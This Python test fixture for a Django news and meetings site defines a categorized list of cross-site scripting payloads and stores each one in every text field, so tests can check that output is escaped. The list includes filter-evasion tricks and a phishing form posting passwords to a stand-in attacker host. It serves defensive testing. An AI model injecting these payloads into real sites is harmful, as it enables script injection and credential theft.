"""Cross-site scripting payloads, stored in every text field by the XSS tests.

Each payload, were it ever executed, would show itself: it calls `alert(1)` (a dialog),
sets `window.__xss`, or adds an element whose id starts with `xss-`; a template payload
would show 49 or a debug dump instead of itself. The browser tests watch for all of
these; the HTML tests check that each payload comes back escaped, or verbatim.

NUL: PostgreSQL text cannot hold U+0000 (psycopg refuses it before anything is
written), and the admin's forms refuse it on every database. Payloads holding NUL are
therefore stored only where the database accepts them (`storable`): on SQLite they go
into every field, on PostgreSQL nowhere; the search box answers a query holding NUL
with 400 on both.

Fields shorter than a payload receive its beginning (`fitted`), which is as hostile:
the long payloads repeat their attack, or end with it only in text fields.
"""

import datetime as dt
from dataclasses import dataclass
from unittest import mock

from django.utils import timezone

from articles import models
from editorial.models import WorkflowEvent
from ingest.models import NameProposal, RelationProposal
from meetings import models as meetings_models
from people import models as people_models
from search import documents as search_documents
from tests import factories


@dataclass(frozen=True)
class Payload:
    category: str
    text: str

    @property
    def has_nul(self):
        return "\x00" in self.text


def _group(category, *texts):
    return [Payload(category, text) for text in texts]


PAYLOADS = [
    # Script elements: plain, mixed case, nested against naive filters, with attributes.
    *_group(
        "script",
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script src=data:text/javascript,alert(1)></script>",
        '<script type="text/javascript" defer>window.__xss=1</script>',
        '<SCRIPT/XSS SRC="data:,alert(1)"></SCRIPT>',
        "<script>document.body.append(Object.assign(document.createElement('b'),"
        "{id:'xss-script'}))</script>",
    ),
    # Event handlers: fire on load, error, focus or toggle, without a click.
    *_group(
        "event handler",
        "<img src=x onerror=alert(1)>",
        '<IMG SRC=x OnErRoR="window.__xss=1">',
        "<img src=x onerror=\"document.body.insertAdjacentHTML('beforeend',"
        "'<i id=xss-img></i>')\">",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>xss</marquee>",
        "<iframe onload=alert(1)></iframe>",
        "<img src=x:alert(alt) onerror=eval(src) alt=1>",
        '<div onmouseover="alert(1)" style="position:fixed;inset:0">xss</div>',
    ),
    # URLs with executable schemes, plain and obfuscated with entities, tabs, newlines
    # and control characters (browsers strip or ignore them).
    *_group(
        "url scheme",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "javascript&colon;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        '<a href="javascript:alert(1)">xss</a>',
        '<a href="&#106;avascript:alert(1)">xss</a>',
        '<a href="jav&#x09;ascript:alert(1)">xss</a>',
        '<form action="javascript:alert(1)"><button id=xss-form>go</button></form>',
        '<button form=x formaction="javascript:alert(1)">go</button>',
        'https://news.example.org/report"><script>alert(1)</script>',
        "https://news.example.org/?q=' onmouseover='alert(1)",
    ),
    # SVG: script and animation inside SVG, xlink:href.
    *_group(
        "svg",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>xss</text></a></svg>',
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    # Breaking out of an attribute, a title or a textarea.
    *_group(
        "breakout",
        '"><script>alert(1)</script>',
        "' onmouseover='alert(1)",
        '" onfocus="alert(1)" autofocus="',
        "` onmouseover=alert(1) `",
        "<img src=`x`onerror=alert(1)>",
        "'\"><svg onload=alert(1)>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        '" style="background:url(javascript:alert(1))',
    ),
    # Closing or confusing the JSON-LD script element.
    *_group(
        "json-ld",
        "</script><script>alert(1)</script>",
        "</SCRIPT ><script>alert(1)</script>",
        "</script\t><script>alert(1)</script>",
        "<!--<script>alert(1)</script>",
        '"}]</script><img src=x onerror=alert(1)>',
        '\\"</script><script>alert(1)</script>',
    ),
    # Template and markup languages: nothing stored is ever evaluated or unescaped.
    *_group(
        "template",
        "{{7*7}}",
        "{% debug %}",
        "{{ request.META }}{% load static %}",
        "${7*7}#{7*7}",
        "{{constructor.constructor('alert(1)')()}}",
        "[xss](javascript:alert(1))",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    # CSS: imports, URLs and expressions.
    *_group(
        "css",
        "<style>@import 'javascript:alert(1)';</style>",
        '<div style="background:url(javascript:alert(1))">xss</div>',
        '<style>*{background:url("javascript:alert(1)")}</style>',
        "<link rel=stylesheet href=data:,*%7Bx:expression(alert(1))%7D>",
    ),
    # Frames, plugins, redirections and form hijacking.
    *_group(
        "embedding",
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
        '<object data="javascript:alert(1)"></object>',
        '<embed src="javascript:alert(1)">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<base href="javascript:alert(1)//">',
        '<form action="https://attacker.example/"><input name=password id=xss-phish></form>',
    ),
    # Unicode: look-alike brackets, separators that end JavaScript lines, direction
    # overrides, invisible joiners, escaped and overlong encodings, control characters.
    *_group(
        "unicode",
        "＜script＞alert(1)＜/script＞",
        "\u2028<script>alert(1)</script>\u2029",
        "\u202egnp.exe<img src=x onerror=alert(1)>",
        "<scr\u200dipt>alert(1)</scr\u200dipt>",
        "<img src=x on\u200berror=alert(1)>",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "\u00c0\u00bcscript\u00c0\u00bealert(1)\u00c0\u00bc/script\u00c0\u00be",
        "\ufeff<script>alert(1)</script>",
        "\U0001d4cd<svg onload=alert(1)>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "\x00<img src=x onerror=alert(1)>",
    ),
    # Very long strings: attacks repeated, or hidden at the end of a long run.
    *_group(
        "long",
        "<img src=x onerror=alert(1)>" * 400,
        "A" * 5000 + "<script>alert(1)</script>",
        "<" * 3000 + "script>alert(1)</script>",
    ),
]


def storable(vendor):
    """The payloads the database `vendor` can hold (PostgreSQL refuses NUL)."""
    return [payload for payload in PAYLOADS if vendor != "postgresql" or not payload.has_nul]


def breakouts(rows):
    """The rows of the attribute, title and textarea breakouts: the payloads aimed at
    forms, whose change pages are slow to open one by one."""
    return [row for row in rows if row.payload.category == "breakout"]


def sampled(rows):
    """The breakouts' rows and the first row of each other kind of payload, for pages
    that take a request per row and render each field as the other rows do."""
    firsts = {}
    for row in rows:
        firsts.setdefault(row.payload.category, row)
    return [row for row in rows if row.payload.category == "breakout" or row in firsts.values()]


def fitted(text, max_length):
    """As much of `text` as a field of `max_length` holds."""
    return text if max_length is None else text[:max_length]


@dataclass
class Row:
    """Everything that holds one payload: each text field of each kind of record."""

    payload: Payload
    outlet: object
    person: object
    organization: object
    post: object
    topic: object
    article: object
    translation: object
    link: object
    meeting: object
    summary: object
    participants: list
    withdrawn: object


def store(payloads, user=None):
    """Store each payload in every text field of a row of published records (one row a
    payload), and return the rows, the first payload's newest. The search index is
    built once at the end rather than after each write."""
    with mock.patch.multiple(search_documents, index_articles=no_index, index_meetings=no_index):
        rows = store_rows(payloads, user)
    search_documents.rebuild()
    return rows


def no_index(items, using="default"):
    pass


def store_rows(payloads, user):
    now = timezone.now()
    rows, root = [], None
    for index, payload in enumerate(payloads):
        text = payload.text

        def fit(model, field, text=text):
            return fitted(text, model._meta.get_field(field).max_length)

        outlet = factories.OutletFactory(
            name=fit(models.Outlet, "name"),
            slug=f"payload-outlet-{index}",
            homepage=fit(models.Outlet, "homepage"),
        )
        models.OutletName.objects.create(outlet=outlet, name=fit(models.OutletName, "name"))
        person = factories.PersonFactory(
            name=fit(people_models.Person, "name"), slug=f"payload-person-{index}", summary=text
        )
        people_models.PersonName.objects.create(
            person=person,
            name=fit(people_models.PersonName, "name"),
            language="ru",
            note=fit(people_models.PersonName, "note"),
        )
        organization = factories.OrganizationFactory(
            name=fit(people_models.Organization, "name"),
            slug=f"payload-organization-{index}",
            abbreviation=fit(people_models.Organization, "abbreviation"),
            parent=root,
        )
        root = root or organization
        people_models.OrganizationName.objects.create(
            organization=organization,
            name=fit(people_models.OrganizationName, "name"),
            language="fr",
            note=fit(people_models.OrganizationName, "note"),
        )
        post = factories.PostFactory(
            person=person, organization=organization, title=fit(people_models.Post, "title")
        )
        topic = factories.TopicFactory(
            name=fit(meetings_models.Topic, "name"), slug=f"payload-topic-{index}"
        )
        published_at = now - dt.timedelta(hours=1 + index)
        article = factories.ArticleFactory(
            title=f"Draft {index}",
            slug=f"payload-{index}",
            body="Draft.",
            outlet=outlet,
            agency=rows[-1].outlet if rows else None,
            source_url=fit(models.Article, "source_url"),
            dateline=fit(models.Article, "dateline"),
            byline=fit(models.Article, "byline"),
            published_at=published_at,
        )
        article.people.set([person])
        article.organizations.set([organization])
        translation = factories.ArticleFactory(
            title=fit(models.Article, "title"),
            slug=f"payload-{index}-fr",
            language="fr",
            body=text,
            outlet=outlet,
            dateline=fit(models.Article, "dateline"),
            byline=fit(models.Article, "byline"),
            published_at=published_at,
        )
        link = models.Translation(source=article, translation=translation, notes=text)
        link.follow_source()
        link.save()
        # A second revision, so the history shows the payload as a change, and the
        # translation follows the draft: it is outdated.
        article.title = fit(models.Article, "title")
        article.body = text
        article._change_reason = fitted(text, 100)
        article.save()
        meeting = factories.MeetingFactory(
            title=fit(meetings_models.Meeting, "title"),
            slug=f"payload-meeting-{index}",
            date=dt.date(2024, 12, 31) - dt.timedelta(days=index),
            venue=fit(meetings_models.Meeting, "venue"),
            city=fit(meetings_models.Meeting, "city"),
            organizer=organization,
            summary=text,
            language="en",
        )
        meeting.topics.set([topic])
        meeting.mentioned_people.set([person])
        participants = [
            meetings_models.Participant.objects.create(
                meeting=meeting,
                person=person,
                post=post,
                organization=root if root != organization else None,
                reported_name=fit(meetings_models.Participant, "reported_name"),
                reported_title=fit(meetings_models.Participant, "reported_title"),
                position=0,
            ),
            meetings_models.Participant.objects.create(
                meeting=meeting,
                reported_name=fit(
                    meetings_models.Participant, "reported_name", f"As reported: {text}"
                ),
                reported_title=fit(meetings_models.Participant, "reported_title"),
                side=meetings_models.Participant.Side.GUEST,
                position=1,
            ),
        ]
        meetings_models.Coverage.objects.create(meeting=meeting, article=article)
        summary = meetings_models.SummaryTranslation(
            meeting=meeting,
            language="fr",
            title=fit(meetings_models.SummaryTranslation, "title"),
            summary=text,
        )
        summary.follow_source()
        summary.save()
        for item in (article, meeting):
            WorkflowEvent.objects.create(
                **{item._meta.model_name: item},
                transition="publish",
                from_status=models.Status.REVIEW,
                to_status=models.Status.PUBLISHED,
                user=user,
                comment=text,
            )
        NameProposal.objects.create(
            article=article,
            kind=NameProposal.Kind.PERSON,
            name=fit(NameProposal, "name"),
            context=fit(NameProposal, "context"),
        )
        RelationProposal.objects.create(
            article=article,
            candidate=translation,
            relation=RelationProposal.Relation.SAME_EVENT,
            score=0.5,
        )
        withdrawn = factories.ArticleFactory(
            title=fit(models.Article, "title"),
            slug=f"payload-{index}-withdrawn",
            body=text,
            outlet=outlet,
            status=models.Status.WITHDRAWN,
        )
        rows.append(
            Row(
                payload,
                outlet,
                person,
                organization,
                post,
                topic,
                article,
                translation,
                link,
                meeting,
                summary,
                participants,
                withdrawn,
            )
        )
    return rows
